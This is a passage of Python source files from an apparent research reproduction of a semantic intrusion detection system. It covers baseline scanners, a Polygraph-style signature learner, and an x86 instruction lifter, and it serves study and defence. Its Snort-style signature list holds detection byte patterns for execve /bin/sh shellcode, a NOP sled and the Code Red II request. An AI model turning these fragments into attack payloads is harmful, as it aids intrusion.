end-host*: it has no traffic classifier and no binary-extraction stage, so
every byte of every input is disassembled and matched.  The paper's
efficiency claim (b) — "our implementation is more efficient than what is
reported in [5]" (≈6.5 s for a Netsky sample vs ≈40 s) — is a claim about
this architectural difference, and :class:`HostBasedScanner` is the
comparator that lets the timing benchmark reproduce its *shape*.

Scanning policy (mirroring an exhaustive whole-binary sweep):

- a decode window (up to ``window`` instructions) is opened at *every*
  byte offset, so code hidden at any alignment — even glued onto data
  bytes that a single linear sweep would misparse — is examined;
- offsets already seen as instruction boundaries of a fully-decoded
  earlier window are skipped (their windows are strict suffixes and the
  matcher already scanned every start position inside them), which keeps
  the sweep from being quadratic while staying exhaustive;
- every window goes through IR lifting, constant propagation, and full
  template matching — no binary-score or min-instruction pruning.

This is the worst-case work a host-based scanner pays for, and the reason
the paper's network pipeline (which analyzes only *extracted frames*) is
the faster system.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from ..core.library import paper_templates
from ..core.matcher import MatchEngine, prepare_trace
from ..core.template import Template, TemplateMatch
from ..x86.disasm import disassemble_frame

__all__ = ["HostBasedScanner", "BaselineResult"]


@dataclass
class BaselineResult:
    """Outcome of scanning one binary."""

    matches: list[TemplateMatch] = field(default_factory=list)
    sections: int = 0
    instructions: int = 0
    elapsed: float = 0.0

    @property
    def detected(self) -> bool:
        return bool(self.matches)

    def matched_names(self) -> list[str]:
        return sorted({m.template.name for m in self.matches})


class HostBasedScanner:
    """Whole-binary semantic scanning, per [5]'s architecture."""

    def __init__(
        self,
        templates: list[Template] | None = None,
        min_section: int = 3,
        window: int = 64,
    ) -> None:
        self.templates = templates if templates is not None else paper_templates()
        self.engine = MatchEngine()
        self.min_section = min_section
        #: instruction cap per decode window; behaviours longer than half a
        #: window could straddle two windows, so this is sized well above
        #: any real decoder/spawn sequence
        self.window = window

    def scan_binary(self, data: bytes) -> BaselineResult:
        """Exhaustively scan a binary image at every offset/alignment."""
        start = time.perf_counter()
        result = BaselineResult()
        skip: set[int] = set()
        offset = 0
        while offset < len(data):
            if offset in skip:
                offset += 1
                continue
            instructions, _consumed = disassemble_frame(
                data[offset:], base=offset, limit=self.window
            )
            if len(instructions) < self.min_section:
                offset += 1
                continue
            result.sections += 1
            result.instructions += len(instructions)
            trace = prepare_trace(instructions)
            result.matches.extend(self.engine.match_all(self.templates, trace))
            if len(instructions) < self.window:
                # Window ended at a decode error or end of data: every
                # boundary suffix is covered by the matcher's start scan.
                skip.update(i.address for i in instructions[1:])
            else:
                # Cap hit: only the first half's boundaries are safely
                # covered; the second half gets fresh windows.
                half = len(instructions) // 2
                skip.update(i.address for i in instructions[1:half])
            offset += 1
        result.elapsed = time.perf_counter() - start
        return result

"""A Snort-style static-signature IDS — the syntactic comparator.

The paper's premise (§1, §3): "a major drawback of this approach is that
unknown attacks cannot be detected", and obfuscated variants of *known*
attacks evade it too.  This module implements the approach being argued
against, honestly and competently: byte signatures for every payload in
our corpus plus the classic exploit artifacts (0x90 sleds, the CRII
request prefix), matched with Aho-Corasick like real deployments.

The comparison benchmark shows the expected asymmetry: the signature IDS
matches every *static* exploit (it was built from them!) and essentially
nothing polymorphic, while the semantic NIDS holds at 100%.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..engines.shellcode import SHELLCODES
from .aho_corasick import AhoCorasick

__all__ = ["Signature", "SignatureScanner", "default_signature_db"]


@dataclass(frozen=True)
class Signature:
    """A named byte pattern, Snort-rule style."""

    name: str
    pattern: bytes
    description: str = ""

    def __post_init__(self) -> None:
        if len(self.pattern) < 4:
            raise ValueError(f"signature {self.name!r} too short to be useful")


def default_signature_db() -> list[Signature]:
    """Signatures a 2006 deployment would carry for our corpus:

    - the exact payload bytes of each public shellcode (what Snort rules
      for specific exploits contain);
    - the execve core sequence shared by hand-written payloads;
    - the classic 0x90 NOP sled;
    - the Code Red II request prefix (CRII is static, so this works).
    """
    sigs = [
        Signature(name=f"shellcode-{name}", pattern=spec.assemble(),
                  description=spec.description)
        for name, spec in SHELLCODES.items()
    ]
    sigs += [
        Signature(name="execve-binsh-core",
                  pattern=bytes.fromhex("682f2f7368682f62696e89e3"),
                  description="push //sh; push /bin; mov ebx,esp"),
        Signature(name="classic-nop-sled", pattern=b"\x90" * 16,
                  description="16+ bytes of 0x90"),
        Signature(name="code-red-ii-ida",
                  pattern=b"GET /default.ida?" + b"X" * 32,
                  description="CRII request prefix"),
        Signature(name="int80-execve-tail",
                  pattern=bytes.fromhex("31d2b00bcd80"),
                  description="xor edx,edx; mov al,11; int 0x80"),
    ]
    return sigs


class SignatureScanner:
    """Matches a signature database against payloads."""

    def __init__(self, signatures: list[Signature] | None = None) -> None:
        self.signatures = (signatures if signatures is not None
                           else default_signature_db())
        self._matcher = AhoCorasick([s.pattern for s in self.signatures])
        self.payloads_scanned = 0
        self.bytes_scanned = 0

    def scan(self, payload: bytes) -> list[Signature]:
        """Signatures present in the payload (deduplicated, in db order)."""
        self.payloads_scanned += 1
        self.bytes_scanned += len(payload)
        hit_ids = {m.pattern for m in self._matcher.search(payload)}
        return [self.signatures[i] for i in sorted(hit_ids)]

    def detects(self, payload: bytes) -> bool:
        self.payloads_scanned += 1
        self.bytes_scanned += len(payload)
        return self._matcher.contains_any(payload)

"""Polygraph-style automatic signature generation (Newsome, Karp & Song,
IEEE S&P 2005 — reference [14] of the paper).

Polygraph's premise: even polymorphic worms carry *invariant* byte
substrings (protocol framing, return addresses, high-order bytes), so a
signature can be learned automatically as the set of tokens common to a
pool of captured instances — matched as a **conjunction** (all tokens
present) or a **token subsequence** (all tokens, in order).

This is the strongest syntactic competitor the paper positions itself
against, so it is implemented faithfully:

- token extraction by k-gram intersection over the sample pool, coalesced
  into maximal invariant substrings;
- conjunction and subsequence matching;
- a distinctness filter dropping tokens that are too common in a benign
  corpus (Polygraph's false-positive control).

The comparison benchmark shows the known failure mode the semantic
approach avoids: against an engine with *no* payload invariants, the
learned tokens come from the delivery vehicle (protocol framing), so the
signature stops matching the moment the attacker changes vehicles — and
starts false-positiving on benign requests that share the framing.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .aho_corasick import AhoCorasick

__all__ = ["PolygraphSignature", "PolygraphLearner"]


@dataclass
class PolygraphSignature:
    """A learned multi-token signature."""

    tokens: list[bytes]
    kind: str = "conjunction"  # or "subsequence"
    _matcher: AhoCorasick | None = field(default=None, repr=False)

    def __post_init__(self) -> None:
        if self.tokens:
            self._matcher = AhoCorasick(self.tokens)

    @property
    def degenerate(self) -> bool:
        """True when learning produced no usable tokens — the signature
        cannot match anything (Polygraph's failure mode on invariant-free
        polymorphism)."""
        return not self.tokens

    def matches(self, payload: bytes) -> bool:
        if self.degenerate or self._matcher is None:
            return False
        hits = self._matcher.search(payload)
        if self.kind == "conjunction":
            present = {h.pattern for h in hits}
            return len(present) == len(self.tokens)
        # token subsequence: every token present, in order, non-overlapping
        position = 0
        for index in range(len(self.tokens)):
            candidates = [h for h in hits
                          if h.pattern == index and h.start >= position]
            if not candidates:
                return False
            position = min(c.end for c in candidates)
        return True

    def describe(self) -> str:
        if self.degenerate:
            return f"{self.kind} signature: DEGENERATE (no invariant tokens)"
        shown = ", ".join(repr(t[:16]) + ("..." if len(t) > 16 else "")
                          for t in self.tokens[:6])
        more = f" (+{len(self.tokens) - 6} more)" if len(self.tokens) > 6 else ""
        return f"{self.kind} signature over {len(self.tokens)} tokens: {shown}{more}"


class PolygraphLearner:
    """Learns invariant-token signatures from a pool of attack instances."""

    def __init__(self, min_token_len: int = 4, max_benign_hits: int = 0) -> None:
        self.min_token_len = min_token_len
        #: tokens appearing in more than this many benign samples are
        #: dropped (distinctness filter)
        self.max_benign_hits = max_benign_hits

    # -- token extraction ---------------------------------------------------

    def invariant_tokens(self, samples: list[bytes]) -> list[bytes]:
        """Maximal substrings of length >= ``min_token_len`` present in
        every sample."""
        if not samples:
            return []
        k = self.min_token_len
        reference = min(samples, key=len)
        if len(reference) < k:
            return []
        others = [s for s in samples if s is not reference]

        # k-grams of the reference that survive intersection with all
        # other samples.
        grams = {reference[i : i + k] for i in range(len(reference) - k + 1)}
        for sample in others:
            if not grams:
                return []
            present = {g for g in grams if g in sample}
            grams = present

        # Coalesce chained grams into maximal candidate substrings using
        # the reference's layout, then re-verify each candidate everywhere.
        positions = sorted(
            i for i in range(len(reference) - k + 1)
            if reference[i : i + k] in grams
        )
        candidates: list[bytes] = []
        run_start: int | None = None
        prev = None
        for pos in positions:
            if run_start is None:
                run_start = pos
            elif pos != prev + 1:
                candidates.append(reference[run_start : prev + k])
                run_start = pos
            prev = pos
        if run_start is not None:
            candidates.append(reference[run_start : prev + k])

        tokens: list[bytes] = []
        for candidate in candidates:
            token = self._shrink_to_common(candidate, samples)
            if token and len(token) >= k and token not in tokens:
                tokens.append(token)
        return tokens

    def _shrink_to_common(self, candidate: bytes,
                          samples: list[bytes]) -> bytes | None:
        """A coalesced candidate may exceed what is truly common (adjacent
        grams can come from different alignments); shrink from the right
        until every sample contains it."""
        token = candidate
        while len(token) >= self.min_token_len:
            if all(token in sample for sample in samples):
                return token
            token = token[:-1]
        return None

    # -- learning ---------------------------------------------------------------

    def learn(
        self,
        samples: list[bytes],
        benign: list[bytes] | None = None,
        kind: str = "conjunction",
    ) -> PolygraphSignature:
        """Learn a signature from attack samples, filtered against a benign
        corpus for distinctness."""
        tokens = self.invariant_tokens(samples)
        if benign:
            kept = []
            for token in tokens:
                hits = sum(1 for b in benign if token in b)
                if hits <= self.max_benign_hits:
                    kept.append(token)
            tokens = kept
        if kind == "subsequence" and tokens:
            # order tokens by their position in the first sample
            reference = samples[0]
            tokens = sorted(tokens, key=lambda t: reference.find(t))
        return PolygraphSignature(tokens=tokens, kind=kind)

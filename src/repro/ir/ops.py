"""Intermediate representation node types.

The IR is deliberately small: expression trees over register *families*
(``al``/``ax``/``eax`` all read family ``eax``), constants, and memory
references, plus a flat statement list.  Statements carry def/use sets at
family granularity which the matcher's clobber check consumes, and a back
pointer to the source :class:`~repro.x86.Instruction` so alerts can show the
original code.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator

from ..x86.instruction import Instruction

__all__ = [
    "Expr", "Const", "Reg", "Load", "BinOp", "UnOp", "UnknownExpr",
    "MemRef", "Stmt", "Assign", "Store", "Exchange", "Push", "Pop",
    "Compare", "Branch", "Interrupt", "StringWrite", "Nop", "Unhandled",
    "mask_for",
]


def mask_for(size: int) -> int:
    return (1 << (size * 8)) - 1


# ---------------------------------------------------------------------------
# Expressions
# ---------------------------------------------------------------------------


class Expr:
    """Base class for IR expressions."""

    def regs(self) -> set[str]:
        """Register families read by this expression."""
        return set()


@dataclass(frozen=True)
class Const(Expr):
    """A constant, normalized unsigned within its width."""

    value: int
    size: int = 4

    def __post_init__(self) -> None:
        object.__setattr__(self, "value", self.value & mask_for(self.size))

    def __str__(self) -> str:
        return f"{self.value:#x}"


@dataclass(frozen=True)
class Reg(Expr):
    """Value of a register; ``family`` is the 32-bit register name, ``size``
    the width actually read."""

    family: str
    size: int = 4

    def regs(self) -> set[str]:
        return {self.family}

    def __str__(self) -> str:
        return self.family if self.size == 4 else f"{self.family}:{self.size * 8}"


@dataclass(frozen=True)
class MemRef:
    """A memory reference ``[base + index*scale + disp]`` of a given width."""

    base: Expr | None = None
    index: Expr | None = None
    scale: int = 1
    disp: int = 0
    size: int = 4

    def regs(self) -> set[str]:
        out: set[str] = set()
        if self.base is not None:
            out |= self.base.regs()
        if self.index is not None:
            out |= self.index.regs()
        return out

    def __str__(self) -> str:
        parts = []
        if self.base is not None:
            parts.append(str(self.base))
        if self.index is not None:
            parts.append(f"{self.index}*{self.scale}" if self.scale != 1 else str(self.index))
        if self.disp or not parts:
            parts.append(f"{self.disp:#x}")
        return f"m{self.size * 8}[{' + '.join(parts)}]"


@dataclass(frozen=True)
class Load(Expr):
    """Read of a memory location."""

    mem: MemRef

    def regs(self) -> set[str]:
        return self.mem.regs()

    def __str__(self) -> str:
        return str(self.mem)


@dataclass(frozen=True)
class BinOp(Expr):
    """Binary operation; ``op`` is one of add/sub/xor/or/and/mul/shl/shr/
    sar/rol/ror/adc/sbb."""

    op: str
    lhs: Expr
    rhs: Expr

    def regs(self) -> set[str]:
        return self.lhs.regs() | self.rhs.regs()

    def __str__(self) -> str:
        return f"({self.lhs} {self.op} {self.rhs})"


@dataclass(frozen=True)
class UnOp(Expr):
    """Unary operation: not/neg/bswap."""

    op: str
    operand: Expr

    def regs(self) -> set[str]:
        return self.operand.regs()

    def __str__(self) -> str:
        return f"{self.op}({self.operand})"


@dataclass(frozen=True)
class UnknownExpr(Expr):
    """A value the lifter cannot (or chooses not to) model."""

    why: str = ""

    def __str__(self) -> str:
        return "?"


# ---------------------------------------------------------------------------
# Statements
# ---------------------------------------------------------------------------


@dataclass
class Stmt:
    """Base statement.  ``defs``/``uses`` are register families plus the
    pseudo-locations ``"mem"`` and ``"eflags"``."""

    ins: Instruction | None = field(default=None, kw_only=True)

    @property
    def address(self) -> int:
        return self.ins.address if self.ins is not None else -1

    def defs(self) -> set[str]:
        return set()

    def uses(self) -> set[str]:
        return set()


@dataclass
class Assign(Stmt):
    """``dst := src`` where dst is a register (family + width written).

    ``high`` marks legacy high-byte destinations (ah/ch/dh/bh), which write
    bits 8-15 of the family rather than bits 0-7."""

    dst: str
    size: int
    src: Expr
    high: bool = False

    def defs(self) -> set[str]:
        return {self.dst, "eflags"}  # conservatively: most ALU writes flags

    def uses(self) -> set[str]:
        return self.src.regs()

    def __str__(self) -> str:
        suffix = "" if self.size == 4 else f":{self.size * 8}"
        return f"{self.dst}{suffix} := {self.src}"


@dataclass
class Store(Stmt):
    """``mem := src``."""

    mem: MemRef
    src: Expr

    def defs(self) -> set[str]:
        return {"mem", "eflags"}

    def uses(self) -> set[str]:
        return self.mem.regs() | self.src.regs()

    def __str__(self) -> str:
        return f"{self.mem} := {self.src}"


@dataclass
class Exchange(Stmt):
    """Swap two registers (xchg)."""

    a: str
    b: str
    size: int

    def defs(self) -> set[str]:
        return {self.a, self.b}

    def uses(self) -> set[str]:
        return {self.a, self.b}

    def __str__(self) -> str:
        return f"{self.a} <-> {self.b}"


@dataclass
class Push(Stmt):
    """Push a value; decrements esp by 4 and stores."""

    src: Expr

    def defs(self) -> set[str]:
        return {"esp", "mem"}

    def uses(self) -> set[str]:
        return self.src.regs() | {"esp"}

    def __str__(self) -> str:
        return f"push {self.src}"


@dataclass
class Pop(Stmt):
    """Pop into a register."""

    dst: str
    size: int = 4

    def defs(self) -> set[str]:
        return {self.dst, "esp"}

    def uses(self) -> set[str]:
        return {"esp", "mem"}

    def __str__(self) -> str:
        return f"pop {self.dst}"


@dataclass
class Compare(Stmt):
    """cmp/test — writes flags only."""

    lhs: Expr
    rhs: Expr
    kind: str = "cmp"

    def defs(self) -> set[str]:
        return {"eflags"}

    def uses(self) -> set[str]:
        return self.lhs.regs() | self.rhs.regs()

    def __str__(self) -> str:
        return f"{self.kind}({self.lhs}, {self.rhs})"


@dataclass
class Branch(Stmt):
    """Control transfer.

    ``kind``: ``jmp``, ``jcc``, ``loop``, ``loope``, ``loopne``, ``jecxz``,
    ``call``, ``ret``.  ``target`` is the absolute target address for direct
    branches, else ``None``.  ``loop`` also decrements ecx — its def set
    reflects that.
    """

    kind: str
    target: int | None = None
    mnemonic: str = ""

    def defs(self) -> set[str]:
        if self.kind in ("loop", "loope", "loopne"):
            return {"ecx"}
        if self.kind == "call":
            return {"esp", "mem", "eax", "ecx", "edx"}  # caller-saved unknown
        return set()

    def uses(self) -> set[str]:
        if self.kind in ("loop", "loope", "loopne", "jecxz"):
            return {"ecx"}
        if self.kind == "jcc":
            return {"eflags"}
        return set()

    def __str__(self) -> str:
        dest = f" -> {self.target:#x}" if self.target is not None else " -> ?"
        return f"{self.kind}{dest}"


@dataclass
class Interrupt(Stmt):
    """Software interrupt (``int 0x80`` is the Linux syscall gate)."""

    vector: int

    def defs(self) -> set[str]:
        return {"eax"}  # syscall return value

    def uses(self) -> set[str]:
        return {"eax", "ebx", "ecx", "edx", "esi", "edi", "ebp"}

    def __str__(self) -> str:
        return f"int {self.vector:#x}"


@dataclass
class StringWrite(Stmt):
    """stosb/stosd/movsb/movsd: store through edi and advance pointers.
    ``rep=True`` models the whole repeated block operation (count in ecx,
    which it consumes)."""

    op: str  # "stos" | "movs"
    size: int
    rep: bool = False

    def defs(self) -> set[str]:
        out = {"mem", "edi"}
        if self.op == "movs":
            out.add("esi")
        if self.rep:
            out.add("ecx")
        return out

    def uses(self) -> set[str]:
        out = {"edi", "eflags"}
        if self.op == "movs":
            out.add("esi")
        else:
            out.add("eax")
        if self.rep:
            out.add("ecx")
        return out

    def __str__(self) -> str:
        prefix = "rep " if self.rep else ""
        return f"{prefix}{self.op}{self.size * 8}"


@dataclass
class Nop(Stmt):
    """No semantic effect we track (nop, cld, flag fiddling...)."""

    flavor: str = "nop"

    def __str__(self) -> str:
        return f"nop<{self.flavor}>"


@dataclass
class Unhandled(Stmt):
    """An instruction outside the modelled subset; its conservative def set
    is 'everything', so it clobbers any in-flight match bindings."""

    mnemonic: str = ""
    clobbers: frozenset[str] = frozenset(
        {"eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi", "mem", "eflags"}
    )

    def defs(self) -> set[str]:
        return set(self.clobbers)

    def __str__(self) -> str:
        return f"unhandled<{self.mnemonic}>"


def walk_exprs(expr: Expr) -> Iterator[Expr]:
    """Preorder traversal of an expression tree."""
    yield expr
    if isinstance(expr, BinOp):
        yield from walk_exprs(expr.lhs)
        yield from walk_exprs(expr.rhs)
    elif isinstance(expr, UnOp):
        yield from walk_exprs(expr.operand)
    elif isinstance(expr, Load):
        if expr.mem.base is not None:
            yield from walk_exprs(expr.mem.base)
        if expr.mem.index is not None:
            yield from walk_exprs(expr.mem.index)

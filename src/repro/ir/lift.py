"""Lifting x86 instructions to IR with semantic normalization.

Normalization is what turns syntactically different but behaviourally
identical instructions into identical IR — the first of the two mechanisms
(with constant propagation) that let one template cover all of Figure 1's
variants:

- ``inc eax``            →  ``eax := eax + 1``   (same as ``add eax, 1``)
- ``xor r, r`` / ``sub r, r``  →  ``r := 0``     (same as ``mov r, 0``)
- ``lea r, [b+d]``       →  ``r := b + d``
- ``xor byte ptr [m], k`` →  read-modify-write ``m8[..] := m8[..] xor k``
- flag-only instructions →  ``Nop``

Each x86 instruction lifts to one or more IR statements; every statement
keeps a pointer to its source instruction for reporting.
"""

from __future__ import annotations

from ..x86.instruction import COND_BRANCHES, Instruction, LOOPS
from ..x86.operands import Imm, Mem, Operand
from ..x86.registers import Register
from .ops import (
    Assign,
    BinOp,
    Branch,
    Compare,
    Const,
    Exchange,
    Expr,
    Interrupt,
    Load,
    MemRef,
    Nop,
    Pop,
    Push,
    Reg,
    Stmt,
    Store,
    StringWrite,
    UnknownExpr,
    UnOp,
)

__all__ = ["lift_instruction", "lift"]

_ALU = {"add", "sub", "xor", "or", "and", "adc", "sbb"}
_SHIFTS = {"shl", "sal", "shr", "sar", "rol", "ror", "rcl", "rcr"}
_FLAG_NOPS = {"nop", "cld", "std", "clc", "stc", "cmc", "sahf", "lahf",
              "pushfd", "popfd", "pushf", "popf", "cli", "sti", "hlt"}
_AL_JUNK = {"daa", "das", "aaa", "aas", "salc"}


def _expr(op: Operand) -> Expr:
    """Convert an x86 operand to an IR expression (reads)."""
    if isinstance(op, Register):
        return Reg(op.family, op.size)
    if isinstance(op, Imm):
        return Const(op.unsigned, op.size)
    if isinstance(op, Mem):
        return Load(_memref(op))
    raise TypeError(f"unexpected operand: {op!r}")


def _memref(mem: Mem) -> MemRef:
    return MemRef(
        base=Reg(mem.base.family, 4) if mem.base is not None else None,
        index=Reg(mem.index.family, 4) if mem.index is not None else None,
        scale=mem.scale,
        disp=mem.disp,
        size=mem.size,
    )


def _assign(dst: Register, src: Expr, ins: Instruction) -> Assign:
    return Assign(dst=dst.family, size=dst.size, src=src, high=dst.high,
                  ins=ins)


def lift_instruction(ins: Instruction) -> list[Stmt]:
    """Lift one instruction to a list of IR statements."""
    m = ins.mnemonic
    ops = ins.operands

    if m in _FLAG_NOPS:
        return [Nop(flavor=m, ins=ins)]

    if m in _AL_JUNK:
        # BCD/flag fiddling: clobbers al with a value we do not model.
        return [Assign(dst="eax", size=1, src=UnknownExpr(m), ins=ins)]

    if m == "mov":
        dst, src = ops
        if isinstance(dst, Register):
            return [_assign(dst, _expr(src), ins)]
        assert isinstance(dst, Mem)
        return [Store(mem=_memref(dst), src=_expr(src), ins=ins)]

    if m in _ALU:
        dst, src = ops
        # Zero idioms: xor r,r and sub r,r both produce zero.
        if (
            m in ("xor", "sub")
            and isinstance(dst, Register)
            and isinstance(src, Register)
            and dst == src
        ):
            return [_assign(dst, Const(0, dst.size), ins)]
        op_name = {"adc": "add", "sbb": "sub"}.get(m, m)
        if isinstance(dst, Register):
            rhs = _expr(src)
            return [_assign(dst, BinOp(op_name, Reg(dst.family, dst.size), rhs), ins)]
        assert isinstance(dst, Mem)
        mem = _memref(dst)
        return [Store(mem=mem, src=BinOp(op_name, Load(mem), _expr(src)), ins=ins)]

    if m in _SHIFTS:
        dst, count = ops
        op_name = {"sal": "shl", "rcl": "rol", "rcr": "ror"}.get(m, m)
        if isinstance(dst, Register):
            return [_assign(dst, BinOp(op_name, Reg(dst.family, dst.size),
                                       _expr(count)), ins)]
        assert isinstance(dst, Mem)
        mem = _memref(dst)
        return [Store(mem=mem, src=BinOp(op_name, Load(mem), _expr(count)), ins=ins)]

    if m in ("not", "neg"):
        (dst,) = ops
        if isinstance(dst, Register):
            return [_assign(dst, UnOp(m, Reg(dst.family, dst.size)), ins)]
        assert isinstance(dst, Mem)
        mem = _memref(dst)
        return [Store(mem=mem, src=UnOp(m, Load(mem)), ins=ins)]

    if m == "inc" or m == "dec":
        (dst,) = ops
        op_name = "add" if m == "inc" else "sub"
        if isinstance(dst, Register):
            return [_assign(dst, BinOp(op_name, Reg(dst.family, dst.size),
                                       Const(1, dst.size)), ins)]
        assert isinstance(dst, Mem)
        mem = _memref(dst)
        return [Store(mem=mem, src=BinOp(op_name, Load(mem), Const(1, mem.size)),
                      ins=ins)]

    if m == "lea":
        dst, src = ops
        assert isinstance(dst, Register) and isinstance(src, Mem)
        expr: Expr
        terms: list[Expr] = []
        if src.base is not None:
            terms.append(Reg(src.base.family, 4))
        if src.index is not None:
            idx: Expr = Reg(src.index.family, 4)
            if src.scale != 1:
                idx = BinOp("mul", idx, Const(src.scale, 4))
            terms.append(idx)
        if src.disp or not terms:
            terms.append(Const(src.disp, 4))
        expr = terms[0]
        for t in terms[1:]:
            expr = BinOp("add", expr, t)
        return [_assign(dst, expr, ins)]

    if m == "push":
        (src,) = ops
        return [Push(src=_expr(src), ins=ins)]
    if m == "pop":
        (dst,) = ops
        if isinstance(dst, Register):
            return [Pop(dst=dst.family, size=dst.size, ins=ins)]
        mem = _memref(dst)  # pop [mem]
        return [Store(mem=mem, src=UnknownExpr("pop-mem"), ins=ins),
                Assign(dst="esp", size=4,
                       src=BinOp("add", Reg("esp", 4), Const(4, 4)), ins=ins)]

    if m == "xchg":
        a, b = ops
        if isinstance(a, Register) and isinstance(b, Register):
            if a == b:
                return [Nop(flavor="xchg-self", ins=ins)]
            return [Exchange(a=a.family, b=b.family, size=a.size, ins=ins)]
        # xchg with memory: model as unknown store + register clobber.
        mem_op = a if isinstance(a, Mem) else b
        reg_op = b if isinstance(a, Mem) else a
        assert isinstance(mem_op, Mem) and isinstance(reg_op, Register)
        mem = _memref(mem_op)
        return [
            _assign(reg_op, Load(mem), ins),
            Store(mem=mem, src=UnknownExpr("xchg"), ins=ins),
        ]

    if m in ("cmp", "test"):
        lhs, rhs = ops
        return [Compare(lhs=_expr(lhs), rhs=_expr(rhs), kind=m, ins=ins)]

    if m in ("movzx", "movsx"):
        dst, src = ops
        assert isinstance(dst, Register)
        return [_assign(dst, _expr(src), ins)]

    if m == "bswap":
        (dst,) = ops
        assert isinstance(dst, Register)
        return [_assign(dst, UnOp("bswap", Reg(dst.family, 4)), ins)]

    if m == "xlatb":
        return [Assign(dst="eax", size=1, src=UnknownExpr("xlatb"), ins=ins)]

    if m == "cwde":
        return [Assign(dst="eax", size=4, src=Reg("eax", 2), ins=ins)]
    if m == "cdq":
        return [Assign(dst="edx", size=4, src=UnknownExpr("sign-of-eax"), ins=ins)]

    if m in ("mul", "imul", "div", "idiv") and len(ops) == 1:
        (src,) = ops
        size = src.size if isinstance(src, (Register, Mem)) else 4
        stmts: list[Stmt] = [
            Assign(dst="eax", size=4,
                   src=BinOp("mul" if m in ("mul", "imul") else "div",
                             Reg("eax", size), _expr(src)), ins=ins)
        ]
        if size != 1:
            stmts.append(Assign(dst="edx", size=4, src=UnknownExpr(m), ins=ins))
        return stmts
    if m == "imul" and len(ops) >= 2:
        dst = ops[0]
        assert isinstance(dst, Register)
        if len(ops) == 2:
            src = BinOp("mul", Reg(dst.family, dst.size), _expr(ops[1]))
        else:
            src = BinOp("mul", _expr(ops[1]), _expr(ops[2]))
        return [_assign(dst, src, ins)]

    if m.startswith("set") and len(m) <= 6:
        (dst,) = ops
        if isinstance(dst, Register):
            return [Assign(dst=dst.family, size=1, src=UnknownExpr(m), ins=ins)]
        return [Store(mem=_memref(dst), src=UnknownExpr(m), ins=ins)]

    # String operations (rep-prefixed forms model the whole block op).
    if m.startswith(("rep ", "repe ", "repne ")):
        _, _, base = m.partition(" ")
        size = 1 if base.endswith("b") else 4
        if base.startswith(("stos", "movs")):
            return [StringWrite(op=base[:4], size=size, rep=True, ins=ins)]
        if base.startswith("lods"):
            return [
                Assign(dst="eax", size=size, src=UnknownExpr(m), ins=ins),
                Assign(dst="esi", size=4, src=UnknownExpr(m), ins=ins),
                Assign(dst="ecx", size=4, src=Const(0, 4), ins=ins),
            ]
        # repe/repne scas/cmps: flags + pointer/counter scan
        stmts: list[Stmt] = [Compare(lhs=UnknownExpr(m), rhs=UnknownExpr(m),
                                     kind="cmp", ins=ins),
                             Assign(dst="ecx", size=4, src=UnknownExpr(m),
                                    ins=ins),
                             Assign(dst="edi", size=4, src=UnknownExpr(m),
                                    ins=ins)]
        if base.startswith("cmps"):
            stmts.append(Assign(dst="esi", size=4, src=UnknownExpr(m), ins=ins))
        return stmts

    if m in ("stosb", "stosd"):
        return [StringWrite(op="stos", size=1 if m == "stosb" else 4, ins=ins)]
    if m in ("movsb", "movsd"):
        return [StringWrite(op="movs", size=1 if m == "movsb" else 4, ins=ins)]
    if m in ("lodsb", "lodsd"):
        size = 1 if m == "lodsb" else 4
        return [
            Assign(dst="eax", size=size,
                   src=Load(MemRef(base=Reg("esi", 4), size=size)), ins=ins),
            Assign(dst="esi", size=4,
                   src=BinOp("add", Reg("esi", 4), Const(size, 4)), ins=ins),
        ]
    if m in ("scasb", "scasd", "cmpsb", "cmpsd"):
        size = 1 if m.endswith("b") else 4
        stmts = [Compare(lhs=UnknownExpr(m), rhs=UnknownExpr(m), kind="cmp", ins=ins)]
        if m.startswith("scas"):
            stmts.append(Assign(dst="edi", size=4,
                                src=BinOp("add", Reg("edi", 4), Const(size, 4)),
                                ins=ins))
        else:
            stmts.append(Assign(dst="esi", size=4,
                                src=BinOp("add", Reg("esi", 4), Const(size, 4)),
                                ins=ins))
            stmts.append(Assign(dst="edi", size=4,
                                src=BinOp("add", Reg("edi", 4), Const(size, 4)),
                                ins=ins))
        return stmts

    # Control flow.
    if m == "jmp":
        return [Branch(kind="jmp", target=ins.target(), mnemonic=m, ins=ins)]
    if m in COND_BRANCHES:
        return [Branch(kind="jcc", target=ins.target(), mnemonic=m, ins=ins)]
    if m in LOOPS:
        return [Branch(kind=m, target=ins.target(), mnemonic=m, ins=ins)]
    if m == "call":
        return [Branch(kind="call", target=ins.target(), mnemonic=m, ins=ins)]
    if m in ("ret", "retn"):
        return [Branch(kind="ret", mnemonic=m, ins=ins)]
    if m == "int":
        assert isinstance(ops[0], Imm)
        return [Interrupt(vector=ops[0].unsigned, ins=ins)]
    if m == "int3":
        return [Interrupt(vector=3, ins=ins)]

    if m == "leave":
        return [
            Assign(dst="esp", size=4, src=Reg("ebp", 4), ins=ins),
            Pop(dst="ebp", size=4, ins=ins),
        ]
    if m in ("pusha", "pushad"):
        return [Push(src=Reg(r, 4), ins=ins)
                for r in ("eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi")]
    if m in ("popa", "popad"):
        return [Pop(dst=r, size=4, ins=ins)
                for r in ("edi", "esi", "ebp", "esp", "ebx", "edx", "ecx", "eax")]

    from .ops import Unhandled

    return [Unhandled(mnemonic=m, ins=ins)]


def lift(instructions: list[Instruction]) -> list[Stmt]:
    """Lift an instruction sequence to a flat IR statement list."""
    out: list[Stmt] = []
    for ins in instructions:
        out.extend(lift_instruction(ins))
    return out

"""Control-flow graph construction and jmp-threaded linearization.

Out-of-order code (Figure 1(c) of the paper) preserves the execution
sequence with unconditional ``jmp`` instructions while scrambling the byte
order.  :func:`linearize` re-serializes basic blocks along the execution
order: follow fall-through edges and unconditional jumps, take each block
once, and resume at the lowest unvisited block when a path dead-ends.  The
result is an instruction sequence in which the original decryption loop is
contiguous again, which is what the template matcher scans.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..x86.instruction import Instruction

__all__ = ["BasicBlock", "Cfg", "build_cfg", "linearize"]


@dataclass
class BasicBlock:
    """A maximal straight-line instruction run."""

    start: int
    instructions: list[Instruction] = field(default_factory=list)
    successors: list[int] = field(default_factory=list)

    @property
    def end(self) -> int:
        last = self.instructions[-1]
        return last.address + last.size

    @property
    def terminator(self) -> Instruction:
        return self.instructions[-1]


@dataclass
class Cfg:
